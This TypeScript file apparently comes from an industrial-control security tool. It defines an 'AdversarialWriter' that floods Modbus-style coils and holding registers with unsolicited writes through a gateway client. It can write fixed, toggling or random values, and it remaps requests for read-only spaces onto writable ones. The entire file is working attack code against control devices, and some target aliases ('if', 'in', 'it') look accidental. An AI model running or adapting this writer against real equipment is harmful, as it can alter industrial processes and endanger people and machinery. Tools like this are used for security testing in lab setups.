import { setTimeout as sleep } from 'node:timers/promises';
import { RegisterValue } from '../types';
import { Logger } from '../utils/logger';
import { GatewayClient } from './GatewayClient';

export type WriteKind = 'coil' | 'hr';

export interface WriteTarget {
  kind: WriteKind;
  address: number;
  /** The space the target named before remapping onto a writable one. */
  requested: string;
}

const TARGET_RE = /^(?<kind>[a-zA-Z_]+)\[(?<index>\d+)\]$/;

const KIND_ALIASES: Record<string, WriteKind> = {
  coil: 'coil',
  coils: 'coil',
  hr: 'hr',
  holding: 'hr',
  holding_register: 'hr',
  holding_registers: 'hr',
  // read-only spaces are redirected to their writable counterparts
  di: 'coil',
  discrete: 'coil',
  discrete_input: 'coil',
  discrete_inputs: 'coil',
  ir: 'hr',
  input: 'hr',
  if: 'hr',
  in: 'hr',
  it: 'hr',
  input_register: 'hr',
  input_registers: 'hr'
};

export class TargetFormatError extends Error {
  constructor(message: string) {
    super(message);
    this.name = 'TargetFormatError';
  }
}

export const parseTarget = (text: string): WriteTarget => {
  const match = TARGET_RE.exec(text.trim());
  const groups = match?.groups;
  if (!groups) throw new TargetFormatError(`Invalid target format: '${text}'. Expected like coil[1] or hr[5].`);

  const requested = groups.kind.toLowerCase();
  const kind = Object.hasOwn(KIND_ALIASES, requested) ? KIND_ALIASES[requested] : undefined;
  if (!kind) throw new TargetFormatError(`Unknown target kind '${requested}' in '${text}'`);
  return { kind, address: Number(groups.index), requested };
};

/** Coil value from loose text: 1/0, true/false, on/off, yes/no, else any number. */
export const parseCoilValue = (value: string | number | boolean): boolean => {
  if (typeof value === 'boolean') return value;
  if (typeof value === 'number') return value !== 0;
  const v = value.trim().toLowerCase();
  if (['1', 'true', 'on', 'yes'].includes(v)) return true;
  if (['0', 'false', 'off', 'no'].includes(v)) return false;
  const n = Number.parseInt(v, 10);
  return Number.isNaN(n) ? true : n !== 0;
};

export const parseRegisterValue = (value: string | number | boolean | undefined): number => {
  if (value === undefined) return 100;
  if (typeof value === 'boolean') return value ? 1 : 0;
  const n = typeof value === 'number' ? Math.trunc(value) : Number.parseInt(value, 10);
  return Number.isNaN(n) ? 100 : n;
};

export interface AttackOptions {
  target: WriteTarget;
  count: number;
  waitMs: number;
  value?: string | number | boolean;
  toggle?: boolean;
  random?: boolean;
  /** Source for random register values, uniform in [0, 1). */
  rng?: () => number;
}

export interface AttackSummary {
  attempts: number;
  successes: number;
  written: RegisterValue[];
}

/**
 * AdversarialWriter
 *
 * Sends a burst of unsolicited writes at one target through the gateway
 * contract only. Never reads.
 */
export class AdversarialWriter {
  private logger: Logger;

  constructor(private client: GatewayClient, logger?: Logger) {
    this.logger = logger ?? new Logger('Attack');
  }

  public valueFor(options: AttackOptions, iteration: number, previous: RegisterValue | undefined): RegisterValue {
    const { target } = options;
    if (target.kind === 'coil') {
      if (options.toggle && iteration > 0 && typeof previous === 'boolean') return !previous;
      return options.value === undefined ? true : parseCoilValue(options.value);
    }
    if (options.random) return Math.floor((options.rng ?? Math.random)() * 32768);
    return parseRegisterValue(options.value);
  }

  public async run(options: AttackOptions): Promise<AttackSummary> {
    const { target } = options;
    const label = `${target.requested}[${target.address}]`;
    const summary: AttackSummary = { attempts: 0, successes: 0, written: [] };
    let previous: RegisterValue | undefined;

    for (let i = 0; i < options.count; i++) {
      const value = this.valueFor(options, i, previous);
      previous = value;

      const result = target.kind === 'coil'
        ? await this.client.writeBit(target.address, Boolean(value))
        : await this.client.writeRegister(target.address, Number(value));

      summary.attempts++;
      summary.written.push(value);
      if (result.success) {
        summary.successes++;
        this.logger.info(`#${i + 1}/${options.count} WRITE OK -> ${label} <= ${String(value)}`);
      } else {
        this.logger.error(`#${i + 1}/${options.count} WRITE FAIL -> ${label} <= ${String(value)} (${result.error})`);
      }

      if (i !== options.count - 1 && options.waitMs > 0) await sleep(options.waitMs);
    }

    this.logger.info(`Done. successes: ${summary.successes}/${summary.attempts}`);
    return summary;
  }
}
